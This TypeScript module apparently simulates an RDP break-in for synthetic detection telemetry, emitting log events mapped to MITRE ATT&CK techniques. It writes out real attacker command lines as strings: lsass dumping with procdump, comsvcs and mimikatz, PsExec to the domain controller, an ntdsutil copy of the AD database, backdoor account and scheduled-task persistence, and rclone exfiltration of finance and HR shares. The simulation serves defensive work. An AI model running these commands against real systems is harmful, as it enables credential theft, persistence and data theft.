/**
 * @module
 * Story `rdp-intrusion`: an internet password guesser breaks into the file server's exposed RDP
 * (T1110.001), looks around (T1033, T1082, T1087.001/.002, T1069.002, T1018), dumps lsass
 * (T1003.001), moves to the DC with a harvested domain-admin password over SMB and a PsExec
 * service (T1021.002), copies the AD database (T1003.003), leaves a local account (T1136.001)
 * and a scheduled task (T1053.005), zips the finance share (T1560.001) and ships it with rclone
 * over SFTP (T1048).
 */
import type { SimEnv } from '../engine/env.js';
import { MINUTE } from '../engine/rhythm.js';
import type { Ctx, Script } from '../engine/scheduler.js';
import { conn, dns } from '../network/zeek.js';
import { GUESSED_USERNAMES, ATTACKER_WORKSTATIONS } from '../world/names.js';
import {
  accept,
  connect,
  dnsQuery,
  ephemeralPort,
  fileCreate,
  imageLoad,
  processAccess,
  registry,
  spawn,
} from '../windows/process.js';
import { accountCreated, serviceInstall, shareAccess, taskCreated } from '../windows/changes.js';
import { logoff, logon, logonFailure } from '../windows/security.js';
import type { Account, Proc } from '../world/world.js';
import { openCmd, sessionShell, typed, typedPassword } from './common.js';

const SYS32 = 'C:\\Windows\\System32\\';

/** Runs the story against the file server. */
export function* rdpIntrusion(ctx: Ctx, env: SimEnv): Script {
  const rng = ctx.rng;
  const w = env.world;
  const fs = w.fs;
  const dc = w.dc;
  const attacker = w.adversary.rdpGuesser;
  const box = rng.pick(ATTACKER_WORKSTATIONS);
  const local: Account = { sam: 'Administrator', domain: fs.name, sid: `${fs.machineSid}-500` };
  ctx.involve(local.sam);

  // Password guessing against RDP with NLA: every try is a TLS connection and a type-3 failure.
  ctx.label = 'T1110.001';
  const tries = rng.int(40, 140);
  for (let i = 0; i < tries; i++) {
    const sport = ephemeralPort(ctx);
    const name = i < tries * 0.6 ? rng.pick(['administrator', 'Administrator', 'admin']) : rng.pick(GUESSED_USERNAMES);
    conn(ctx, {
      src: attacker,
      sport,
      dst: fs.ip,
      dport: 3389,
      proto: 'tcp',
      service: 'rdp,ssl',
      duration: rng.range(0.4, 2.5),
      origBytes: rng.int(1_900, 2_600),
      respBytes: rng.int(2_400, 3_600),
      state: rng.chance(0.9) ? 'SF' : 'RSTO',
    });
    accept(ctx, fs, fs.system.svchost, attacker, sport, 3389, 3);
    const unknown = !name.toLowerCase().startsWith('admin') || name === 'admin';
    logonFailure(ctx, fs, name, unknown ? '' : fs.name, {
      type: 3,
      ip: attacker,
      port: sport,
      workstation: box,
      unknownUser: unknown,
      offset: rng.int(200, 900),
    });
    yield rng.range(1_000, 6_000);
  }
  const sport = ephemeralPort(ctx);
  const session = rng.range(60, 110) * MINUTE;
  conn(ctx, {
    src: attacker,
    sport,
    dst: fs.ip,
    dport: 3389,
    proto: 'tcp',
    service: 'rdp,ssl',
    duration: session / 1000,
    origBytes: rng.int(2_000_000, 9_000_000),
    respBytes: rng.int(20_000_000, 90_000_000),
  });
  accept(ctx, fs, fs.system.svchost, attacker, sport, 3389, 3);
  logon(ctx, fs, local, { type: 3, auth: 'NTLM', ip: attacker, port: sport, workstation: box, offset: 400 });
  const rdpId = logon(ctx, fs, local, { type: 10, ip: attacker, port: 0, privileged: true, offset: 2_500 });
  const desktop = sessionShell(ctx, fs, local, rdpId, 'High');
  yield rng.range(2, 6) * MINUTE;

  // Hands-on-keyboard discovery from a console.
  ctx.label = 'T1059.003';
  const cmd = openCmd(ctx, fs, desktop);
  const discovery: readonly (readonly [string, string])[] = [
    ['T1033', 'whoami /all'],
    ['T1082', 'systeminfo'],
    ['T1087.001', 'net user'],
    ['T1087.002', 'net user /domain'],
    ['T1069.002', 'net group "Domain Admins" /domain'],
    ['T1018', `nltest /dclist:${w.dnsDomain}`],
  ];
  for (const [technique, line] of discovery) {
    yield rng.range(8_000, 60_000);
    ctx.label = technique;
    typed(ctx, fs, cmd, line);
  }
  yield rng.range(3, 8) * MINUTE;

  // Credential dumping: one of three common ways to read lsass memory.
  ctx.label = 'T1003.001';
  const lsass = fs.system.lsass;
  const variant = rng.pick(['procdump', 'comsvcs', 'mimikatz'] as const);
  let dumper: Proc;
  if (variant === 'procdump') {
    fileCreate(ctx, fs, desktop, 'C:\\Users\\Administrator\\Desktop\\procdump64.exe');
    dumper = spawn(ctx, fs, {
      parent: cmd,
      image: 'C:\\Users\\Administrator\\Desktop\\procdump64.exe',
      cmd: 'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp',
      offset: 20_000,
    });
    registry(
      ctx,
      fs,
      dumper,
      `HKU\\${local.sid}\\Software\\Sysinternals\\ProcDump\\EulaAccepted`,
      'DWORD (0x00000001)',
      20_050,
    );
    imageLoad(ctx, fs, dumper, `${SYS32}dbghelp.dll`, 20_080);
    processAccess(
      ctx,
      fs,
      dumper,
      lsass,
      '0x1fffff',
      `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Users\\Administrator\\Desktop\\procdump64.exe+${rng.hex(5)}`,
      20_100,
    );
    fileCreate(ctx, fs, dumper, 'C:\\Windows\\Temp\\ls.dmp', 21_500);
  } else if (variant === 'comsvcs') {
    dumper = spawn(ctx, fs, {
      parent: cmd,
      image: `${SYS32}rundll32.exe`,
      cmd: `rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} C:\\Windows\\Temp\\debug.bin full`,
    });
    imageLoad(ctx, fs, dumper, `${SYS32}comsvcs.dll`, 60);
    imageLoad(ctx, fs, dumper, `${SYS32}dbgcore.dll`, 90);
    processAccess(
      ctx,
      fs,
      dumper,
      lsass,
      '0x1fffff',
      `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\dbgcore.DLL+${rng.hex(4)}|C:\\Windows\\System32\\comsvcs.dll+${rng.hex(5)}|C:\\Windows\\System32\\rundll32.exe+${rng.hex(4)}`,
      120,
    );
    fileCreate(ctx, fs, dumper, 'C:\\Windows\\Temp\\debug.bin', 1_400);
  } else {
    fileCreate(ctx, fs, desktop, 'C:\\Users\\Public\\mimi.exe');
    dumper = spawn(ctx, fs, {
      parent: cmd,
      image: 'C:\\Users\\Public\\mimi.exe',
      cmd: 'C:\\Users\\Public\\mimi.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
      offset: 15_000,
    });
    imageLoad(ctx, fs, dumper, `${SYS32}samlib.dll`, 15_050);
    imageLoad(ctx, fs, dumper, `${SYS32}vaultcli.dll`, 15_070);
    processAccess(
      ctx,
      fs,
      dumper,
      lsass,
      '0x1010',
      `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Users\\Public\\mimi.exe+${rng.hex(5)}|UNKNOWN(${rng.hex(16).toUpperCase()})`,
      15_100,
    );
  }
  yield rng.range(5, 12) * MINUTE;

  // Lateral movement to the DC with the harvested domain-admin password via PsExec.
  ctx.label = 'T1021.002';
  const admin = rng.pick(w.admins).adminAccount ?? local;
  ctx.involve(admin.sam);
  const psexec = spawn(ctx, fs, {
    parent: cmd,
    image: 'C:\\Users\\Administrator\\Desktop\\PsExec64.exe',
    cmd: `PsExec64.exe -accepteula \\\\${dc.name} -u ${admin.domain}\\${admin.sam} -p ${typedPassword(ctx)} -s cmd.exe`,
  });
  const smbPort = connect(ctx, fs, psexec, { dstIp: dc.ip, dstPort: 445, offset: 300 });
  conn(ctx, {
    src: fs.ip,
    sport: smbPort,
    dst: dc.ip,
    dport: 445,
    proto: 'tcp',
    service: 'gssapi,smb,ntlm',
    duration: rng.range(300, 900),
    origBytes: rng.int(420_000, 520_000),
    respBytes: rng.int(30_000, 90_000),
    offset: 300,
  });
  const dcId = logon(ctx, dc, admin, {
    type: 3,
    auth: 'NTLM',
    ip: fs.ip,
    port: smbPort,
    workstation: fs.name,
    privileged: true,
    offset: 350,
  });
  shareAccess(ctx, dc, admin, dcId, {
    share: 'ADMIN$',
    localPath: 'C:\\Windows',
    ip: fs.ip,
    port: smbPort,
    file: 'PSEXESVC.exe',
    write: true,
    offset: 400,
  });
  fileCreate(ctx, dc, dc.system.kernel, 'C:\\Windows\\PSEXESVC.exe', 450);
  shareAccess(ctx, dc, admin, dcId, {
    share: 'IPC$',
    localPath: '',
    ip: fs.ip,
    port: smbPort,
    file: 'svcctl',
    offset: 600,
  });
  serviceInstall(ctx, dc, admin, dcId, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe', 700);
  registry(
    ctx,
    dc,
    dc.system.services,
    'HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC\\ImagePath',
    '%SystemRoot%\\PSEXESVC.exe',
    710,
  );
  const svc = spawn(ctx, dc, {
    parent: dc.system.services,
    image: 'C:\\Windows\\PSEXESVC.exe',
    cmd: 'C:\\Windows\\PSEXESVC.exe',
    offset: 900,
  });
  const remote = spawn(ctx, dc, { parent: svc, image: `${SYS32}cmd.exe`, cmd: '"cmd.exe" ', offset: 1_400 });
  yield rng.range(1, 4) * MINUTE;

  // Copy of the AD database through an IFM snapshot.
  ctx.label = 'T1003.003';
  const ifm = 'C:\\Windows\\Temp\\ifm';
  const ntdsutil = spawn(ctx, dc, {
    parent: remote,
    image: `${SYS32}ntdsutil.exe`,
    cmd: `ntdsutil  "ac i ntds" "ifm" "create full ${ifm}" q q`,
  });
  fileCreate(ctx, dc, ntdsutil, `${ifm}\\Active Directory\\ntds.dit`, rng.int(20_000, 60_000));
  fileCreate(ctx, dc, ntdsutil, `${ifm}\\registry\\SYSTEM`, rng.int(61_000, 70_000));
  fileCreate(ctx, dc, ntdsutil, `${ifm}\\registry\\SECURITY`, rng.int(70_001, 75_000));
  yield rng.range(3, 8) * MINUTE;
  ctx.label = 'T1021.002';
  logoff(ctx, dc, admin, dcId, 3);

  // Persistence on the file server: a local admin account and a SYSTEM task at logon.
  ctx.label = 'T1136.001';
  const backdoor = rng.pick(['support_tmp', 'helpdesk1', 'sqlsvc_adm', 'defaultuser1']);
  ctx.involve(backdoor);
  typed(ctx, fs, cmd, `net user ${backdoor} ${typedPassword(ctx)} /add`);
  accountCreated(
    ctx,
    fs,
    local,
    rdpId,
    { name: backdoor, domain: fs.name, sid: `${fs.machineSid}-${1_000 + rng.int(1, 20)}`, admin: true },
    60,
  );
  typed(ctx, fs, cmd, `net localgroup administrators ${backdoor} /add`, rng.int(10_000, 30_000));
  yield rng.range(2, 6) * MINUTE;
  ctx.label = 'T1053.005';
  const taskName = '\\Microsoft\\Windows\\Maintenance\\SysHealth';
  const payload = 'C:\\ProgramData\\syshealth.exe';
  typed(ctx, fs, cmd, `schtasks /create /tn "${taskName}" /tr "${payload}" /sc onlogon /ru SYSTEM /f`);
  taskCreated(
    ctx,
    fs,
    local,
    rdpId,
    { name: taskName, command: payload, args: '', runAs: 'S-1-5-18', trigger: 'logon' },
    300,
  );
  fileCreate(ctx, fs, fs.system.svchost, `C:\\Windows\\System32\\Tasks${taskName}`, 320);
  yield rng.range(8, 20) * MINUTE;

  // Staging and exfiltration of the finance and HR shares.
  ctx.label = 'T1560.001';
  const archive = 'C:\\ProgramData\\bk.zip';
  const zip = spawn(ctx, fs, {
    parent: cmd,
    image: 'C:\\ProgramData\\7za.exe',
    cmd: `C:\\ProgramData\\7za.exe a -tzip -p${typedPassword(ctx)} -mx1 ${archive} D:\\Shares\\Finance D:\\Shares\\HR`,
  });
  fileCreate(ctx, fs, zip, archive, rng.int(30_000, 120_000));
  yield rng.range(3, 6) * MINUTE;
  ctx.label = 'T1048';
  const rclone = spawn(ctx, fs, {
    parent: cmd,
    image: 'C:\\ProgramData\\rclone.exe',
    cmd: `C:\\ProgramData\\rclone.exe copy ${archive} remote:upload --config C:\\ProgramData\\rc.conf -q --ignore-existing --transfers 4 --multi-thread-streams 4`,
  });
  const domain = w.adversary.exfilDomain;
  dnsQuery(ctx, fs, rclone, domain, [w.adversary.exfil], 400);
  dns(ctx, fs.ip, dc.ip, domain, [w.adversary.exfil], 400);
  const up = connect(ctx, fs, rclone, { dstIp: w.adversary.exfil, dstPort: 22, dstHost: domain, offset: 450 });
  conn(ctx, {
    src: fs.ip,
    sport: up,
    dst: w.adversary.exfil,
    dport: 22,
    proto: 'tcp',
    service: 'ssh',
    duration: rng.range(600, 2_400),
    origBytes: Math.round(rng.range(6e8, 3e9)),
    respBytes: rng.int(400_000, 2_000_000),
    offset: 450,
  });
  yield rng.range(10, 30) * MINUTE;
  ctx.label = 'T1110.001';
  logoff(ctx, fs, local, rdpId, 10);
}
